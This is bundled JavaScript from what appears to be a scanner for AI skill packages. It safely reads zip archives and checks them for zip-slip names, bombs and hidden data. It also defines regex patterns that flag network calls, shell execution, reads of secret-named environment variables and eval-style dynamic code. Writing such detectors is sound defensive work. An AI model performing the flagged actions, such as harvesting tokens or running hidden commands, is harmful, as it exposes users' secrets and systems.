export const id = 404;
export const ids = [404];
export const modules = {

/***/ 2702:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   i: () => (/* binding */ memorySnapshot)
/* harmony export */ });
/* harmony import */ var _core_order_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(4223);
/* harmony import */ var _snapshot_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(4554);


/** A snapshot of files held in memory: an opened zip, or a tree made by a test. Strings count as UTF-8. */
function memorySnapshot(label, files, skipped = []) {
    const contents = new Map();
    const entries = [];
    for (const file of files) {
        const bytes = typeof file.bytes === 'string' ? new TextEncoder().encode(file.bytes) : file.bytes;
        contents.set(file.path, bytes);
        entries.push({
            path: file.path,
            kind: file.kind ?? 'file',
            size: bytes.byteLength,
            ...(file.target === undefined ? {} : { target: file.target }),
        });
    }
    const sorted = (0,_core_order_js__WEBPACK_IMPORTED_MODULE_0__/* .sortedBy */ .V)(entries, (entry) => entry.path);
    const byPath = new Map(sorted.map((entry) => [entry.path, entry]));
    const read = (path, limit = _snapshot_js__WEBPACK_IMPORTED_MODULE_1__/* .MAX_FILE_BYTES */ .gZ) => {
        const entry = byPath.get(path);
        if (entry === undefined)
            return { kind: 'unreadable', reason: 'missing' };
        if (entry.kind !== 'file' && entry.kind !== 'executable')
            return { kind: 'unreadable', reason: 'not-a-regular-file' };
        const bytes = contents.get(path) ?? new Uint8Array();
        return bytes.byteLength > limit ? { kind: 'unreadable', reason: 'too-large' } : { kind: 'bytes', bytes };
    };
    return {
        label,
        skipped,
        entries: () => sorted,
        entry: (path) => byPath.get(path),
        read,
        readMany: (paths, limit) => new Map(paths.map((path) => [path, read(path, limit)])),
    };
}


/***/ }),

/***/ 7615:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  u: () => (/* binding */ readZip)
});

// EXTERNAL MODULE: external "node:zlib"
var external_node_zlib_ = __webpack_require__(8522);
// EXTERNAL MODULE: ./node_modules/yauzl/index.js
var yauzl = __webpack_require__(663);
// EXTERNAL MODULE: ./lib/core/errors.js
var errors = __webpack_require__(3828);
// EXTERNAL MODULE: ./lib/core/text.js
var core_text = __webpack_require__(9716);
// EXTERNAL MODULE: ./lib/io/memory-snapshot.js
var memory_snapshot = __webpack_require__(2702);
;// CONCATENATED MODULE: ./lib/io/zip/entry-names.js
/** Why a name must not be unpacked; undefined for a safe one. Threat: zip slip, and names that systems read differently. */
function unsafeName(name) {
    if (name === '')
        return 'has no name';
    if (name.includes('\\'))
        return 'holds a backslash, which separates folders on Windows';
    if (name.startsWith('/'))
        return 'is an absolute path';
    if (/^[A-Za-z]:/.test(name))
        return 'starts with a drive letter';
    const parts = name.replace(/\/$/, '').split('/');
    if (parts.includes('..'))
        return 'climbs out of the folder that it is unpacked into';
    if (parts.includes('.') || parts.includes(''))
        return 'has empty parts or parts that are a dot';
    if (/[\u0000-\u001f\u007f]/.test(name))
        return 'holds control characters';
    return undefined;
}
/** The name of an entry as UTF-8; undefined when its bytes are something else, so that tools would guess. */
function decodeName(bytes) {
    try {
        return new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes);
    }
    catch {
        return undefined;
    }
}

;// CONCATENATED MODULE: ./lib/io/zip/layout.js
const LOCAL_HEADER = 0x04034b50;
const DESCRIPTOR = 0x08074b50;
const HEADER_BYTES = 30;
const HAS_DESCRIPTOR = 0x0008;
const ZIP64 = 0xffffffff;
/**
 * Compares what the archive says twice (APPNOTE 6.3.10, 4.3.7 and 4.3.9 against 4.3.12) and finds data that no entry
 * accounts for. Threat: tools that read the local headers unpack other files than those that read the directory.
 */
function layoutFaults(bytes, entries, directoryOffset) {
    const faults = [];
    const extents = [];
    for (const entry of entries) {
        const checked = checkEntry(bytes, entry);
        if (typeof checked === 'string')
            faults.push({ kind: 'header-mismatch', entry: entry.name, message: checked });
        else
            extents.push(checked);
    }
    return faults.length > 0 ? faults : extentFaults(extents, directoryOffset);
}
function checkEntry(bytes, entry) {
    const start = entry.headerOffset;
    if (start + HEADER_BYTES > bytes.length || bytes.readUInt32LE(start) !== LOCAL_HEADER)
        return 'has no local header where the directory says';
    const nameEnd = start + HEADER_BYTES + bytes.readUInt16LE(start + 26);
    const dataStart = nameEnd + bytes.readUInt16LE(start + 28);
    if (!bytes.subarray(start + HEADER_BYTES, nameEnd).equals(entry.nameBytes))
        return 'has another name in its local header';
    if (bytes.readUInt16LE(start + 8) !== entry.method)
        return 'has another method in its local header';
    const flags = bytes.readUInt16LE(start + 6);
    if ((flags & 1) !== (entry.flags & 1))
        return 'is encrypted by one header and not by the other';
    const dataEnd = dataStart + entry.compressedSize;
    if (dataEnd > bytes.length)
        return 'ends behind the end of the archive';
    if ((flags & HAS_DESCRIPTOR) === 0) {
        const sizes = [bytes.readUInt32LE(start + 14), bytes.readUInt32LE(start + 18), bytes.readUInt32LE(start + 22)];
        const expected = [entry.crc32, entry.compressedSize, entry.uncompressedSize];
        const differs = sizes.some((size, index) => size !== ZIP64 && size !== expected[index]);
        return differs ? 'has other sizes or another checksum in its local header' : { start, end: dataEnd, entry: entry.name };
    }
    const end = descriptorEnd(bytes, dataEnd, entry);
    return end === undefined ? 'has a data descriptor that does not match' : { start, end, entry: entry.name };
}
/** The end of a matching data descriptor: with or without its signature, sizes of four or eight bytes. */
function descriptorEnd(bytes, at, entry) {
    const signed = at + 4 <= bytes.length && bytes.readUInt32LE(at) === DESCRIPTOR;
    for (const start of signed ? [at + 4, at] : [at]) {
        if (start + 12 > bytes.length || bytes.readUInt32LE(start) !== entry.crc32)
            continue;
        if (bytes.readUInt32LE(start + 4) === entry.compressedSize && bytes.readUInt32LE(start + 8) === entry.uncompressedSize)
            return start + 12;
        if (start + 20 > bytes.length)
            continue;
        const long = [bytes.readBigUInt64LE(start + 4), bytes.readBigUInt64LE(start + 12)];
        if (long[0] === BigInt(entry.compressedSize) && long[1] === BigInt(entry.uncompressedSize))
            return start + 20;
    }
    return undefined;
}
function extentFaults(extents, directoryOffset) {
    const faults = [];
    let end = 0;
    for (const extent of [...extents].sort((a, b) => a.start - b.start)) {
        if (extent.start < end)
            faults.push({ kind: 'overlap', entry: extent.entry, message: 'shares its data with another entry' });
        else if (extent.start > end)
            faults.push(hiddenData(end, extent.start));
        end = Math.max(end, extent.end);
    }
    if (directoryOffset > end)
        faults.push(hiddenData(end, directoryOffset));
    return faults;
}
function hiddenData(from, to) {
    return {
        kind: 'hidden-data',
        entry: '',
        message: `holds ${String(to - from)} bytes at offset ${String(from)} that no entry accounts for`,
    };
}
const END_OF_DIRECTORY = 0x06054b50;
const END_BYTES = 22;
/** Where the central directory starts, and bytes behind the end record; undefined when there is no plain end record. */
function directoryBounds(bytes) {
    for (let at = bytes.length - END_BYTES; at >= Math.max(0, bytes.length - END_BYTES - 0xffff); at -= 1) {
        if (bytes.readUInt32LE(at) !== END_OF_DIRECTORY)
            continue;
        const trailing = bytes.length - (at + END_BYTES + bytes.readUInt16LE(at + 20));
        const offset = bytes.readUInt32LE(at + 16);
        return { offset: offset === ZIP64 ? at : offset, trailing };
    }
    return undefined;
}

// EXTERNAL MODULE: ./lib/io/zip/zip-fault.js
var zip_fault = __webpack_require__(4718);
;// CONCATENATED MODULE: ./lib/io/zip/read-zip.js








/** Deflated or stored; other methods are read by too few tools to be judged alike. */
const METHODS = new Set([0, 8]);
/**
 * Opens a zip from memory: by its central directory, each entry unpacked into memory within {@link MAX_INFLATED_BYTES}.
 * Nothing is written to disk and nested archives stay files. Never throws for what the bytes hold.
 */
async function readZip(bytes, label) {
    const buffer = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
    const faults = [];
    const files = [];
    try {
        await readEntries(buffer, files, faults);
    }
    catch (error) {
        faults.push({ kind: 'not-a-zip', entry: '', message: `cannot be read: ${(0,core_text/* snippetOf */.Vv)((0,errors/* messageOf */.b)(error), 120).replace(/\.$/, '')}` });
    }
    return { snapshot: (0,memory_snapshot/* memorySnapshot */.i)(label, files), faults };
}
async function readEntries(buffer, files, faults) {
    const zip = await yauzl/* fromBufferPromise */.SY(buffer, { lazyEntries: true, decodeStrings: false, validateEntrySizes: true });
    try {
        if (zip.entryCount > zip_fault/* MAX_ZIP_ENTRIES */.ib) {
            const message = `lists ${String(zip.entryCount)} entries, more than ${String(zip_fault/* MAX_ZIP_ENTRIES */.ib)}`;
            faults.push({ kind: 'too-many-entries', entry: '', message });
            return;
        }
        const entries = [];
        for await (const entry of zip.eachEntry())
            entries.push(entry);
        const central = entries.map(centralEntryOf);
        const bounds = directoryBounds(buffer);
        faults.push(...layoutFaults(buffer, central, bounds?.offset ?? buffer.length));
        if (bounds !== undefined && bounds.trailing > 0) {
            faults.push({ kind: 'hidden-data', entry: '', message: `goes on for ${String(bounds.trailing)} bytes behind its end` });
        }
        await unpackAll(zip, entries, files, faults);
    }
    finally {
        zip.close();
    }
}
function centralEntryOf(entry) {
    return {
        name: nameOf(entry).name,
        nameBytes: entry.fileNameRaw,
        headerOffset: entry.relativeOffsetOfLocalHeader,
        compressedSize: entry.compressedSize,
        uncompressedSize: entry.uncompressedSize,
        crc32: entry.crc32,
        method: entry.compressionMethod,
        flags: entry.generalPurposeBitFlag,
    };
}
function nameOf(entry) {
    const name = decodeName(entry.fileNameRaw);
    return name === undefined ? { name: new TextDecoder('latin1').decode(entry.fileNameRaw), valid: false } : { name, valid: true };
}
async function unpackAll(zip, entries, files, faults) {
    const seen = new Set();
    const folders = new Set();
    let left = zip_fault/* MAX_INFLATED_BYTES */.Bx;
    for (const entry of entries) {
        const { name } = nameOf(entry);
        const fault = faultOfEntry(entry) ?? clash(name, seen, folders);
        if (fault !== undefined) {
            faults.push({ ...fault, entry: name });
            continue;
        }
        remember(name, seen, folders);
        if (name.endsWith('/'))
            continue;
        if (entry.uncompressedSize > left) {
            faults.push({ kind: 'too-large', entry: '', message: `unpacks to more than ${String(zip_fault/* MAX_INFLATED_BYTES */.Bx)} bytes` });
            return;
        }
        left -= entry.uncompressedSize;
        await unpack(zip, entry, name, files, faults);
    }
}
function faultOfEntry(entry) {
    const { name, valid } = nameOf(entry);
    if (!valid)
        return { kind: 'unsafe-path', message: 'has a name that is not UTF-8, so that tools unpack it under different names' };
    const unsafe = unsafeName(name);
    if (unsafe !== undefined)
        return { kind: 'unsafe-path', message: unsafe };
    // Info-ZIP Unicode path (0x7075): some tools unpack under this name instead.
    const unicode = entry.extraFields.find((field) => field.id === 0x7075)?.data.subarray(5);
    if (unicode !== undefined && decodeName(unicode) !== name)
        return { kind: 'unsafe-path', message: 'has a second name that differs' };
    if (entry.isEncrypted())
        return { kind: 'encrypted', message: 'is encrypted, so that it cannot be judged' };
    if (!METHODS.has(entry.compressionMethod))
        return { kind: 'method', message: `is packed with method ${String(entry.compressionMethod)}, which few tools read` };
    if (name.endsWith('/') && entry.uncompressedSize > 0)
        return { kind: 'special', message: 'is a folder and has data' };
    if (kindOf(entry) === 'special')
        return { kind: 'special', message: 'is neither a file nor a folder' };
    const packed = Math.max(1, entry.compressedSize);
    if (entry.uncompressedSize > zip_fault/* RATIO_FROM_BYTES */.R8 && entry.uncompressedSize / packed > zip_fault/* MAX_RATIO */.zN) {
        return { kind: 'ratio', message: `unpacks to more than ${String(zip_fault/* MAX_RATIO */.zN)} times its size` };
    }
    return undefined;
}
/** Two entries of one name, or a file where another entry needs a folder: what is unpacked depends on the tool. */
function clash(name, seen, folders) {
    const path = name.replace(/\/$/, '');
    if (seen.has(name))
        return { kind: 'duplicate', message: 'stands in the archive twice' };
    if (!name.endsWith('/') && folders.has(path))
        return { kind: 'duplicate', message: 'is a file and a folder at once' };
    const parents = foldersAround(path);
    return parents.some((folder) => seen.has(folder)) ? { kind: 'duplicate', message: 'lies in a folder that is a file' } : undefined;
}
function remember(name, seen, folders) {
    seen.add(name);
    const path = name.replace(/\/$/, '');
    if (name.endsWith('/'))
        folders.add(path);
    for (const folder of foldersAround(path))
        folders.add(folder);
}
function foldersAround(path) {
    const folders = [];
    for (let slash = path.indexOf('/'); slash >= 0; slash = path.indexOf('/', slash + 1))
        folders.push(path.slice(0, slash));
    return folders;
}
const MADE_ON_UNIX = 3;
const MADE_ON_MAC = 19;
/** The kind by the Unix mode in the upper half of the external attributes, where the maker is a Unix. */
function kindOf(entry) {
    const maker = entry.versionMadeBy >> 8;
    const mode = entry.externalFileAttributes >>> 16;
    // ASi Unix extra field (0x756e): a link by another way (its mode stands behind the four bytes of its checksum).
    const asi = entry.extraFields.find((field) => field.id === 0x756e)?.data;
    if (asi !== undefined && asi.length >= 6 && (asi.readUInt16LE(4) & 0o170000) === 0o120000)
        return 'symlink';
    if ((maker !== MADE_ON_UNIX && maker !== MADE_ON_MAC) || mode === 0)
        return 'file';
    switch (mode & 0o170000) {
        case 0o120000:
            return 'symlink';
        case 0o100000:
        case 0:
            return (mode & 0o111) === 0 ? 'file' : 'executable';
        case 0o040000:
            return 'file';
        default:
            return 'special';
    }
}
async function unpack(zip, entry, name, files, faults) {
    let bytes;
    try {
        bytes = await contentOf(zip, entry);
    }
    catch (error) {
        faults.push({ kind: 'damaged', entry: name, message: `cannot be unpacked: ${(0,core_text/* snippetOf */.Vv)((0,errors/* messageOf */.b)(error), 120)}` });
        return;
    }
    if ((0,external_node_zlib_.crc32)(bytes) !== entry.crc32)
        faults.push({ kind: 'damaged', entry: name, message: 'does not match its checksum' });
    const kind = kindOf(entry);
    if (kind === 'symlink')
        files.push({ path: name, bytes: '', kind, target: bytes.subarray(0, 4096).toString('utf8') });
    else
        files.push({ path: name, bytes: new Uint8Array(bytes.buffer, bytes.byteOffset, bytes.byteLength), kind });
}
async function contentOf(zip, entry) {
    const chunks = [];
    // The library ends the stream with an error as soon as more comes out than the directory says.
    for await (const chunk of await zip.openReadStreamPromise(entry))
        chunks.push(chunk);
    return Buffer.concat(chunks);
}


/***/ }),

/***/ 4718:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Bx: () => (/* binding */ MAX_INFLATED_BYTES),
/* harmony export */   R8: () => (/* binding */ RATIO_FROM_BYTES),
/* harmony export */   ib: () => (/* binding */ MAX_ZIP_ENTRIES),
/* harmony export */   zN: () => (/* binding */ MAX_RATIO)
/* harmony export */ });
/** Entries of one archive (about what a skill with many assets has, times ten). */
const MAX_ZIP_ENTRIES = 2000;
/** Bytes of all entries unpacked. */
const MAX_INFLATED_BYTES = 64 * 1024 * 1024;
/** Unpacked over packed size of an entry; small ones may be more repetitive than that by nature. */
const MAX_RATIO = 100;
const RATIO_FROM_BYTES = 1024 * 1024;


/***/ }),

/***/ 4903:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  Sg: () => (/* binding */ openAnalyser)
});

// UNUSED EXPORTS: AnalysisPool, inThisThread

// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(8161);
// EXTERNAL MODULE: external "node:worker_threads"
var external_node_worker_threads_ = __webpack_require__(5919);
// EXTERNAL MODULE: ./lib/core/errors.js
var errors = __webpack_require__(3828);
// EXTERNAL MODULE: ./lib/io/assets.js
var assets = __webpack_require__(7379);
// EXTERNAL MODULE: ./lib/core/text.js
var core_text = __webpack_require__(9716);
// EXTERNAL MODULE: ./lib/skills/analysis/facts.js
var analysis_facts = __webpack_require__(7570);
;// CONCATENATED MODULE: ./lib/skills/analysis/zones.js
const FENCE_OPEN = /^(?:[ \t]|> ?|[-*+] |\d{1,9}[.)] ){0,12}(`{3,}|~{3,})[ \t]*([^\s`]*)/;
const HEADING = /^ {0,3}(#{1,6})(?:[ \t]|$)/;
const LIST_ITEM = /^[ \t]*(?:[-*+]|\d{1,9}[.)])[ \t]/;
const REFERENCE_COMMENT = /^ {0,3}\[[^\]\n]{0,80}\]:[ \t]*(?:#|<>)[ \t]*["'(]/;
const HTML_LINE = /^[ \t]*<\/?[A-Za-z][^\n]*/;
/**
 * Splits Markdown by lines into zones, in one linear pass. Coarser than CommonMark on purpose: it tells apart what a rule
 * must not confuse (prose, code, comments, front matter), and every byte of the text lies in some zone. Unclosed fences
 * and comments run to the end of the text, as every renderer has them.
 */
function splitMarkdown(text) {
    return new MarkdownSplitter(text).split();
}
class MarkdownSplitter {
    #text;
    #zones = [];
    #open = [];
    #headings = [];
    constructor(text) {
        this.#text = text;
    }
    split() {
        let offset = this.#frontMatter();
        let fence;
        while (offset < this.#text.length) {
            const end = this.#lineEnd(offset);
            const line = this.#text.slice(offset, Math.min(end, offset + 2000));
            if (fence !== undefined) {
                if (closesFence(line, fence)) {
                    this.#add('fence', fence.start, offset, fence.language);
                    fence = undefined;
                }
                offset = end;
                continue;
            }
            fence = openFence(line, end);
            offset = fence === undefined ? this.#plainLine(line, offset, end) : end;
        }
        if (fence !== undefined)
            this.#add('fence', fence.start, this.#text.length, fence.language);
        return this.#zones;
    }
    #lineEnd(offset) {
        const newline = this.#text.indexOf('\n', offset);
        return newline < 0 ? this.#text.length : newline + 1;
    }
    /** Front matter may follow a byte order mark, white space or a comment: clients differ, so all of these are read as such. */
    #frontMatter() {
        const opening = /^\uFEFF?(?:\s|<!--[^>]{0,2000}-->){0,20}---[ \t]*\r?\n/.exec(this.#text.slice(0, 4096));
        if (opening === null)
            return 0;
        const start = opening[0].length;
        const closing = /^---[ \t]*\r?$/m.exec(this.#text.slice(start, start + 65536));
        if (closing === null)
            return 0;
        if (opening[0].includes('<!--'))
            this.#add('comment', 0, start - 4, '');
        this.#add('front-matter', start, start + closing.index, '');
        return this.#lineEnd(start + closing.index);
    }
    #plainLine(line, start, end) {
        const comment = line.indexOf('<!--');
        if (comment >= 0 && !isInsideBackticks(line, comment))
            return this.#comment(start, start + comment);
        const heading = HEADING.exec(line);
        if (heading !== null)
            this.#heading(heading[1]?.length ?? 1, start, end);
        else
            this.#add(kindOfLine(line), start, end, '');
        return end;
    }
    #comment(lineStart, start) {
        if (start > lineStart)
            this.#add(kindOfLine(this.#text.slice(lineStart, start)), lineStart, start, '');
        const closing = this.#text.indexOf('-->', start + 4);
        const end = closing < 0 ? this.#text.length : closing + 3;
        this.#add('comment', start, end, '');
        return end;
    }
    #heading(level, start, end) {
        while ((this.#open.at(-1)?.level ?? 0) >= level)
            this.#open.pop();
        this.#headings = this.#open.map((open) => open.zone);
        this.#open.push({ level, zone: this.#zones.length });
        this.#zones.push({ kind: 'heading', start, end, language: '', headings: this.#headings });
        this.#headings = this.#open.map((open) => open.zone);
    }
    /** Neighbouring lines of one kind make one zone, up to a blank line. */
    #add(kind, start, end, language) {
        const last = this.#zones.at(-1);
        const continues = last?.kind === kind && last.end === start && kind !== 'fence' && kind !== 'comment' && last.headings === this.#headings;
        if (continues && !endsInBlankLine(this.#text, start))
            this.#zones[this.#zones.length - 1] = { ...last, end };
        else if (end > start)
            this.#zones.push({ kind, start, end, language, headings: this.#headings });
    }
}
function openFence(line, start) {
    const match = FENCE_OPEN.exec(line);
    if (match === null)
        return undefined;
    const marker = match[1] ?? '```';
    const info = (match[2] ?? '').toLowerCase();
    if (marker.startsWith('`') && line.includes('`', match[0].length))
        return undefined;
    const language = /^[a-z0-9+#_.-]+/.exec(info.replace(/^\{?\.?/, ''))?.[0] ?? '';
    return { marker: marker.charAt(0), length: marker.length, language: info.startsWith('!') ? '!' : language, start };
}
function closesFence(line, fence) {
    const bare = line.replace(/^[\s>]{0,40}/, '').trimEnd();
    return bare.length >= fence.length && bare.startsWith(fence.marker.repeat(fence.length)) && bare.replaceAll(fence.marker, '') === '';
}
function kindOfLine(line) {
    if (LIST_ITEM.test(line))
        return 'list';
    const bare = line.trimStart();
    if (bare.startsWith('>'))
        return 'quote';
    if (bare.startsWith('|'))
        return 'table';
    if (REFERENCE_COMMENT.test(line))
        return 'comment';
    if (bare.startsWith('<') && HTML_LINE.test(line))
        return 'html';
    return 'prose';
}
function endsInBlankLine(text, offset) {
    const lineStart = text.lastIndexOf('\n', offset - 2) + 1;
    return text.slice(lineStart, offset).trim() === '';
}
/** Whether an offset of a line lies in an inline code span; runs of backticks of any length open and close alike. */
function isInsideBackticks(line, offset) {
    let open = 0;
    for (const run of line.slice(0, offset).matchAll(/`+/g))
        open = open === 0 ? run[0].length : open === run[0].length ? 0 : open;
    return open > 0 && line.includes('`'.repeat(open), offset);
}
/** The zone that holds an offset, or the one before it. */
function zoneAt(zones, offset) {
    let low = 0;
    let high = zones.length - 1;
    while (low < high) {
        const middle = (low + high + 1) >> 1;
        if ((zones[middle]?.start ?? 0) <= offset)
            low = middle;
        else
            high = middle - 1;
    }
    return zones[low];
}

;// CONCATENATED MODULE: ./lib/skills/analysis/signal.js
/** The longest match that a signal may have unless it says otherwise. */
const DEFAULT_REACH = 400;
/** Matches of one signal in one text beyond this say nothing new. */
const MAX_MATCHES = 200;
/** Writes a signal down; the flags are set here so that no pattern can forget them. */
function signal(name, anchors, pattern, reach = DEFAULT_REACH, needs = []) {
    return { name, anchors, pattern: new RegExp(pattern.source, 'gim'), reach, needs };
}
/** All matches of a signal in a unit, in order. */
function matchSignal(wanted, unit, filter) {
    const matches = [];
    const windows = filter === 'off' ? [[0, unit.text.length]] : windowsAround(wanted, unit);
    for (const [start, end] of windows) {
        const text = start === 0 && end === unit.text.length ? unit.text : unit.text.slice(start, end);
        // The pattern itself rather than a copy for each window, as `matchAll` would have it.
        wanted.pattern.lastIndex = 0;
        for (let match = wanted.pattern.exec(text); match !== null; match = wanted.pattern.exec(text)) {
            if (match[0] === '')
                wanted.pattern.lastIndex += 1;
            const from = start + match.index;
            matches.push({ start: from, end: from + match[0].length, text: match[0], groups: match.groups ?? {} });
            if (matches.length >= MAX_MATCHES)
                return matches;
        }
    }
    return matches;
}
/** Stretches around the anchors, merged, beginning and ending at white space so that word boundaries stay what they are. */
function windowsAround(wanted, unit) {
    const windows = [];
    let last;
    for (const end of mergedEnds(wanted, unit)) {
        if (last !== undefined && end + wanted.reach <= last[1])
            continue;
        const start = Math.max(last?.[1] ?? 0, backToSpace(unit.text, end - wanted.reach));
        const stop = onToSpace(unit.text, end + wanted.reach);
        if (last !== undefined && start <= last[1]) {
            last = [last[0], stop];
            windows[windows.length - 1] = last;
        }
        else {
            last = [start, stop];
            windows.push(last);
        }
    }
    return windows;
}
/** The ends of anchors near which something of every needed list stands. */
function mergedEnds(wanted, unit) {
    if (!unit.hasAny(wanted.anchors) || !wanted.needs.every((list) => unit.hasAny(list)))
        return NOWHERE;
    let ends = unit.endsOfAny(wanted.anchors);
    for (const list of wanted.needs)
        ends = nearAny(ends, unit.endsOfAny(list), wanted.reach);
    return ends;
}
const NOWHERE = new Int32Array(0);
/** Of two ascending lists, the members of the first that have one of the second within a distance. */
function nearAny(ends, others, distance) {
    let at = 0;
    return ends.filter((end) => {
        while (at < others.length && (others[at] ?? 0) < end - distance)
            at += 1;
        return (others[at] ?? Infinity) <= end + distance;
    });
}
function backToSpace(text, offset) {
    const limit = Math.max(0, offset - 200);
    let at = Math.max(0, offset);
    while (at > limit && text.charCodeAt(at - 1) > 32)
        at -= 1;
    return at;
}
function onToSpace(text, offset) {
    const limit = Math.min(text.length, offset + 200);
    let at = Math.min(text.length, offset);
    while (at < limit && text.charCodeAt(at) > 32)
        at += 1;
    return at;
}

;// CONCATENATED MODULE: ./lib/skills/capabilities/capability-signal.js

/** Writes down what shows a capability; the first anchor tells it from its like. */
const shows = (capability, where, anchors, pattern) => ({
    capability,
    where,
    signal: signal(`capability ${capability} in ${where}: ${anchors[0] ?? ''}`, anchors, pattern, 200),
});

;// CONCATENATED MODULE: ./lib/skills/capabilities/code-signals.js

/** Calls in scripts. A word shows nothing; the form of a call does. */
const CODE_SIGNALS = [
    shows('network', 'code', ['requests.', 'httpx.', 'aiohttp.', 'urllib', 'urlopen', 'http.client'], /\b(?:requests|httpx)\.(?:get|post|put|patch|delete|head|request|session|client|asyncclient|stream)\s{0,2}\(|\baiohttp\.clientsession\s{0,2}\(|\b(?:urlopen|urlretrieve)\s{0,2}\(|\bhttps?connection\s{0,2}\(|\burllib3?\.(?:poolmanager|request\.urlopen)/),
    shows('network', 'code', ['fetch(', 'axios', 'https.', 'http.', 'websocket', 'xmlhttprequest', 'undici', 'got('], /(?<![\w.])fetch\s{0,2}\(|\baxios(?:\.\w{2,10})?\s{0,2}\(|\bhttps?\.(?:get|request)\s{0,2}\(|\bnew\s+(?:websocket|xmlhttprequest)\s{0,2}\(|(?<![\w.])got\s{0,2}\(/),
    shows('network', 'code', ['socket.', 'smtplib', 'paramiko', 'ftplib', 'boto3.', 'openai(', 'anthropic(', 'genai.', 'websockets.'], /\bsocket\.(?:socket|create_connection)\s{0,2}\(|\bsmtplib\.smtp(?:_ssl)?\s{0,2}\(|\bparamiko\.\w{3,20}\s{0,2}\(|\bftplib\.ftp(?:_tls)?\s{0,2}\(|\bboto3\.(?:client|resource|session)\b|\b(?:async)?(?:openai|anthropic)\s{0,2}\(|\bgenai\.client\s{0,2}\(|\bwebsockets\.connect\s{0,2}\(/),
    shows('network', 'code', ['invoke-webrequest', 'invoke-restmethod', 'net::http', 'http.get(', 'http.post(', 'http.newrequest', 'webclient'], /\binvoke-(?:webrequest|restmethod)\b|\bnet::http\b|\bhttp\.(?:get|post|newrequest)\s{0,2}\(|\bnet\.webclient\b/),
    shows('exec', 'code', ['subprocess', 'os.system', 'os.popen', 'os.exec', 'pty.spawn'], /\bsubprocess\.(?:run|call|check_call|check_output|popen|getoutput|getstatusoutput)\s{0,2}\(|\bos\.(?:system|popen|exec[lv]p?e?|spawn\w{1,4})\s{0,2}\(|\bcreate_subprocess_(?:exec|shell)\s{0,2}\(|\bpty\.spawn\s{0,2}\(/),
    shows('exec', 'code', ['child_process', 'execsync', 'spawnsync', 'execfile', 'execa', 'bun.spawn', 'deno.command'], /['"](?:node:)?child_process['"]|\b(?:execsync|spawnsync|execfilesync|execfile)\s{0,2}\(|\bexeca\s{0,2}\(|\bbun\.spawn|\bdeno\.command/),
    shows('exec', 'code', ['start-process', 'exec.command', 'system(', 'shell_exec', 'open3.', 'processbuilder', 'invoke-expression'], /\bstart-process\b|\bexec\.command(?:context)?\s{0,2}\(|(?<![\w.])(?:system|shell_exec|passthru)\s{0,2}\(|\bopen3\.\w{3,10}|\binvoke-expression\b/),
    shows('writes', 'code', ['open(', 'write_text', 'write_bytes', '.save(', 'to_csv', 'to_excel', 'makedirs', 'mkdir(', 'shutil.', '.dump('], /\bopen\s{0,2}\([^()\n]{1,160}(?:\([^()\n]{0,80}\)[^()\n]{0,80}){0,2},\s{0,4}(?:mode\s{0,2}=\s{0,2})?["'][rb]{0,2}[wax]\+?b?t?["']|\.write_(?:text|bytes)\s{0,2}\(|\b(?:doc|document|wb|workbook|prs|presentation|img|image|im|fig|plt|pdf|writer|canvas)\.save(?:fig)?\s{0,2}\(|\.to_(?:csv|excel|json|parquet|html)\s{0,2}\(\s{0,4}[\w"'f]|\bos\.(?:makedirs|mkdir|rename|remove|unlink|replace)\s{0,2}\(|\.mkdir\s{0,2}\(|\bshutil\.(?:copy\w{0,4}|move|copytree|rmtree|make_archive)\s{0,2}\(/),
    shows('writes', 'code', [
        'writefile',
        'appendfile',
        'createwritestream',
        'mkdirsync',
        'outputfile',
        'writetextfile',
        'bun.write',
        'rmsync',
        'unlinksync',
        'copyfile',
        'renamesync',
    ], /\b(?:writefile(?:sync)?|appendfile(?:sync)?|createwritestream|mkdirsync|outputfile(?:sync)?|writetextfile(?:sync)?|rmsync|unlinksync|copyfilesync|renamesync)\s{0,2}\(|\bbun\.write\s{0,2}\(/),
    shows('writes', 'code', [
        'set-content',
        'out-file',
        'add-content',
        'new-item',
        'file.write',
        'file_put_contents',
        'os.writefile',
        'os.create',
        'remove-item',
        '-outfile',
    ], /\b(?:set-content|out-file|add-content|new-item|remove-item)\b|\bfile\.write\s{0,2}\(|\bfile_put_contents\s{0,2}\(|\bos\.(?:writefile|create|mkdirall)\s{0,2}\(|\s-outfile\b/),
    shows('reads', 'code', ['open(', 'read_text', 'readfile', 'read_csv', 'glob', 'os.walk', 'listdir', 'get-content', 'os.readfile', 'file.read'], /\bopen\s{0,2}\([^()\n]{1,160}\)|\.read_(?:text|bytes)\s{0,2}\(|\breadfile(?:sync)?\s{0,2}\(|\bread_(?:csv|excel|json|parquet)\s{0,2}\(|\b(?:glob\.glob|os\.walk|os\.listdir|rglob)\s{0,2}\(|\bget-content\b|\bos\.readfile\s{0,2}\(|\bfile\.read\s{0,2}\(/),
    shows('secrets', 'code', ['environ', 'getenv', 'process.env', '$env:', 'keyring', 'keytar'], /\b(?:os\.environ(?:\.get\s{0,2}\(|\[)|os\.getenv\s{0,2}\(|getenv\s{0,2}\()\s{0,4}["'][\w-]{0,40}(?:token|secret|api_?key|password|passwd|credential|access_?key|_key)\w{0,20}["']|\bprocess\.env(?:\.|\[["'])[\w]{0,40}(?:token|secret|api_?key|password|credential|access_?key|_key)\w{0,20}|\$env:\w{0,40}(?:token|secret|api_?key|password|_key)\w{0,20}|\bkeyring\.get_password\s{0,2}\(|\bkeytar\.getpassword\s{0,2}\(/),
    shows('dynamic_code', 'code', [
        'eval(',
        'exec(',
        'compile(',
        'new function',
        'pickle.load',
        'marshal.load',
        '__import__',
        'import_module',
        'vm.run',
        'invoke-expression',
        'iex ',
